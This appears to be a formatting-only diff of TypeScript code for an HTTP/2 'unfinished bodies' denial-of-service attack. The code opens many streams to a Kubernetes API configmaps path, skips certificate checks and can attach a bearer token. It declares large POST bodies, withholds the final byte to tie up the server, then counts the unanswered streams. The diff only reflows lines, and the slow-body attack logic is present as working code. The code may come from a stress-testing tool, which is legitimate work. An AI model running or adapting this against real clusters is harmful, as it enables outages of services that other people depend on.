@@ -26,7 +26,10 @@ const CLIENT_MEGABYTES_MAX = 4000;
 const SLAB = Buffer.alloc(64 * 1024, 'x');
 const path = '/api/v1/namespaces/default/configmaps';
 
-/** Opens many streams of one HTTP/2 connection, each with a large body of which all but the end is sent. Resolves when every stream is over, or the time is. */
+/**
+ * Opens many streams of one HTTP/2 connection, each with a large body of which all but the end is sent. Resolves when
+ * every stream is over, or the time is.
+ */
 export async function sendUnfinishedBodies(attack: UnfinishedBodies): Promise<UnfinishedBodiesResult> {
   const session = http2.connect(attack.url, { rejectUnauthorized: false, maxSessionMemory: CLIENT_MEGABYTES_MAX });
   session.on('error', () => undefined);
@@ -36,7 +39,11 @@ export async function sendUnfinishedBodies(attack: UnfinishedBodies): Promise<Un
   const over = new Promise<void>((resolve) => {
     for (let i = 0; i < attack.streams; i++) {
       const stream = session.request({
-        ':method': 'POST', ':path': path, 'content-type': 'application/json', 'content-length': attack.bodyBytes, ...(attack.token === undefined ? {} : { authorization: `Bearer ${attack.token}` }),
+        ':method': 'POST',
+        ':path': path,
+        'content-type': 'application/json',
+        'content-length': attack.bodyBytes,
+        ...(attack.token === undefined ? {} : { authorization: `Bearer ${attack.token}` }),
       });
       open.add(stream);
       const ended = (): void => {
@@ -49,18 +56,30 @@ export async function sendUnfinishedBodies(attack: UnfinishedBodies): Promise<Un
       stream.on('aborted', ended);
       stream.on('close', ended);
       stream.resume();
-      sendAllBut(1, stream, attack.bodyBytes, (bytes) => { sentBytes += bytes; });
+      sendAllBut(1, stream, attack.bodyBytes, (bytes) => {
+        sentBytes += bytes;
+      });
     }
   });
   let timer: NodeJS.Timeout | undefined;
-  await Promise.race([over, new Promise<void>((resolve) => { timer = setTimeout(resolve, attack.holdMs); })]);
+  await Promise.race([
+    over,
+    new Promise<void>((resolve) => {
+      timer = setTimeout(resolve, attack.holdMs);
+    }),
+  ]);
   clearTimeout(timer);
   session.destroy();
   const unanswered = attack.streams - [...answered.values()].reduce((sum, n) => sum + n, 0);
   return { answered, unanswered, sentBytes };
 }
 
-function sendAllBut(last: number, stream: http2.ClientHttp2Stream, bytes: number, onSent: (bytes: number) => void): void {
+function sendAllBut(
+  last: number,
+  stream: http2.ClientHttp2Stream,
+  bytes: number,
+  onSent: (bytes: number) => void,
+): void {
   let left = bytes - last;
   const next = (): void => {
     if (left <= 0 || !stream.writable) return;
